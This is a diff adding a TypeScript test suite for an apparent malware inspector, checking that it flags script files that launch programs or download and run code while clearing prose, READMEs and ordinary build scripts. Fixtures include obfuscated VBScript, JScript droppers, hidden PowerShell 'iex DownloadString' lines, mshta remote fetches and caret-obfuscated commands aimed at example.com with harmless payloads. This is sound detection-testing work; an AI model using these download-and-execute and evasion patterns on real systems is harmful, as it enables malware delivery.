@@ -1,0 +1,195 @@
+/** Script files: what they do decides, in every container, and prose about scripts is no script. */
+
+import assert from 'node:assert/strict'
+import { suite, test } from 'node:test'
+import { useInspector } from '#inspect/testing/inspector.ts'
+import { writeZip } from '#inspect/testing/zip-writer.ts'
+import { decodeScripts } from './encoder.ts'
+
+const { inspect } = useInspector()
+
+function accusations(bytes: Uint8Array): string[] {
+  const { findings, obstacle } = inspect(bytes)
+  assert.equal(obstacle, null)
+  return findings.filter(({ severity }) => severity !== 'notice').map(({ id }) => id.replace('Docvet.', ''))
+}
+
+/** In an archive with other files, as software comes. */
+const packed = (name: string, text: string): Uint8Array =>
+  writeZip([
+    { name, data: Buffer.from(text) },
+    { name: 'LICENSE', data: Buffer.from('Permission is hereby granted.') },
+  ])
+const has = (bytes: Uint8Array, id: string): void => assert.ok(accusations(bytes).includes(id), `${accusations(bytes)}`)
+const harmless = (bytes: Uint8Array): void => assert.deepEqual(accusations(bytes), [])
+
+const VBS = 'Set s = CreateObject("WScript.Shell")\r\ns.Run "cmd /c calc", 0\r\n'
+const DROPPER =
+  'var x = new ActiveXObject("MSXML2.XMLHTTP");\nx.open("GET", "http://example.com/a", false);\nx.send();\nvar s = new ActiveXObject("WScript.Shell");\ns.Run("a.exe");\n'
+
+suite('a script that starts programs', () => {
+  test('in VBScript', () => has(packed('a.vbs', VBS), 'Script.Program'))
+  test('in VBScript without a name', () => has(Buffer.from(VBS), 'Script.Program'))
+  test('from joined pieces', () => {
+    has(
+      packed('a.vbs', 'Set s = CreateObject("WScr" & "ipt.Sh" & Chr(101) & "ll")\r\ns.Run StrReverse("clac")\r\n'),
+      'Script.Program',
+    )
+  })
+  test('from text that it builds', () =>
+    has(packed('a.vbs', 'x = Decode("abc")\r\nExecuteGlobal x\r\n'), 'Script.Program'))
+  test('through the management service', () => {
+    has(
+      packed('a.vbs', 'Set p = GetObject("winmgmts:\\\\.\\root\\cimv2:Win32_Process")\r\np.Create "calc.exe"\r\n'),
+      'Script.Program',
+    )
+  })
+  test('in JavaScript', () =>
+    has(packed('a.js', 'var s = WScript.CreateObject("WScript.Shell"); s.Run("calc")'), 'Script.Program'))
+  test('in obfuscated JavaScript', () => {
+    has(
+      packed(
+        'a.js',
+        'var o = ["lehS.tpircSW"], k = "uR"; var s = new this["Active" + "XObject"](o[0].replace("lehS","llehS").split("").reverse().join("")); s[k + "n"]("calc")'.replace(
+          '"uR"',
+          '"Ru"',
+        ),
+      ),
+      'Script.Program',
+    )
+  })
+  test('and downloads', () => has(packed('a.js', DROPPER), 'Script.Dropper'))
+  test('in an HTML application', () => {
+    has(
+      packed('a.hta', `<html><hta:application id=a><script language="VBScript">${VBS}</script></html>`),
+      'Script.Program',
+    )
+  })
+  test('in a script component', () => {
+    has(
+      packed('a.wsf', `<job id="a"><script language="JScript"><![CDATA[${DROPPER}]]></script></job>`),
+      'Script.Dropper',
+    )
+  })
+  test('in PowerShell, hidden', () => {
+    has(
+      packed('a.ps1', '$a = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("YQ=="))\niex $a\n'),
+      'Script.Program',
+    )
+  })
+  test('in PowerShell, alone', () => {
+    has(
+      writeZip([
+        { name: 'a.ps1', data: Buffer.from('iex (New-Object Net.WebClient).DownloadString("http://example.com/a")') },
+      ]),
+      'Script.Dropper',
+    )
+  })
+  test('in a batch file', () =>
+    has(packed('a.bat', '@echo off\r\nmshta http://example.com/a.hta\r\n'), 'Script.Program'))
+  test('in a batch file with carets', () =>
+    has(packed('a.bat', '@echo off\r\np^o^w^e^r^s^h^e^l^l -w hidden -c calc\r\n'), 'Script.Program'))
+})
+
+suite('a script that only fetches is suspicious', () => {
+  test('in VBScript', () => {
+    has(
+      packed(
+        'a.vbs',
+        'Set h = CreateObject("MSXML2.XMLHTTP")\r\nh.Open "GET", "http://example.com/a"\r\nSet s = CreateObject("ADODB.Stream")\r\ns.SaveToFile "a"\r\n',
+      ),
+      'Script.Fetch',
+    )
+  })
+  test('in PowerShell among other files', () => {
+    has(
+      packed(
+        'setup.ps1',
+        'iex ((New-Object System.Net.WebClient).DownloadString("https://example.com/install.ps1"))\n',
+      ),
+      'Script.Fetch',
+    )
+  })
+})
+
+suite('an encoded script', () => {
+  test('is decoded', () => assert.equal(decodeScripts('#@~^CAAAAA==\\ko$K6,JAAAAAA==^#~@')[0], 'MsgBox "'))
+  test('is decoded without its end', () => assert.equal(decodeScripts('#@~^CAAAAA==\\ko$K6,J')[0], 'MsgBox "'))
+
+  /** Encodes a text with the tables of the decoder, by trying every character. */
+  const encode = (text: string): string => {
+    let body = ''
+    for (const char of text) {
+      const code = Array.from({ length: 95 }, (_, i) => String.fromCharCode(32 + i)).find((one) => {
+        const decoded = decodeScripts(`#@~^AAAAAA==${body}${one}`)[0] ?? ''
+        return (
+          !'<>@'.includes(one) && decoded === text.slice(0, decoded.length) && decoded.length === [...body].length + 1
+        )
+      })
+      body += code ?? char
+    }
+    return `#@~^AAAAAA==${body}AAAAAA==^#~@`
+  }
+
+  test('is judged by what it does', () => {
+    const bytes = packed('a.vbe', encode('CreateObject("WScript.Shell").Run "calc"'))
+    has(bytes, 'Script.Encoded')
+    has(bytes, 'Script.Program')
+  })
+})
+
+suite('a text that is a command', () => {
+  const encoded = Buffer.from('echo 1', 'utf16le').toString('base64')
+  test('is suspicious', () => has(Buffer.from(`powershell.exe -NoP -W Hidden -Enc ${encoded}\n`), 'Script.Command'))
+  test('with carets', () => has(Buffer.from('c^m^d /c c^a^l^c\n'), 'Script.Command'))
+  test('of the own computer is harmless', () => harmless(Buffer.from('cmd /c dir\n')))
+})
+
+suite('harmless', () => {
+  const cases: [string, Uint8Array][] = [
+    [
+      'prose about scripts',
+      Buffer.from(
+        `Attackers use CreateObject("WScript.Shell") to start programs.\n\nThe command powershell -w hidden -enc is a sign of it, and so is mshta http://example.com/a.\n`,
+      ),
+    ],
+    [
+      'documentation in Markdown',
+      packed(
+        'README.md',
+        `# Install\n\nRun this:\n\n\`\`\`\npowershell -c "irm https://example.com/install.ps1 | iex"\n${VBS}\`\`\`\n`,
+      ),
+    ],
+    [
+      'a build script',
+      packed(
+        'build.bat',
+        '@echo off\r\nsetlocal\r\ncall msbuild app.sln /p:Configuration=Release\r\ncurl -L -o tool.zip https://example.com/tool.zip\r\n',
+      ),
+    ],
+    [
+      'a deployment script',
+      packed(
+        'deploy.ps1',
+        'param($Target)\n$env:PATH\nInvoke-WebRequest -Uri https://example.com/a.zip -OutFile a.zip\nExpand-Archive a.zip\n',
+      ),
+    ],
+    [
+      'a JavaScript library',
+      packed(
+        'jquery.js',
+        '(function(g){ if (window.ActiveXObject) { x = new ActiveXObject("Microsoft.XMLHTTP") } g.eval("a" + "b") })(this)',
+      ),
+    ],
+    ['a script of Node.js', packed('run.js', 'const { exec } = require("child_process"); exec("npm run build")')],
+    [
+      'a script that reads',
+      packed(
+        'info.vbs',
+        'Set w = GetObject("winmgmts:\\\\.\\root\\cimv2")\r\nFor Each i In w.ExecQuery("Select * from Win32_ComputerSystem")\r\nWScript.Echo i.Name\r\nNext\r\n',
+      ),
+    ],
+    ['a table with commands', Buffer.from('name,command\nshell,"CreateObject(""WScript.Shell"")"\n')],
+  ]
+  for (const [name, bytes] of cases) test(name, () => harmless(bytes))
+})
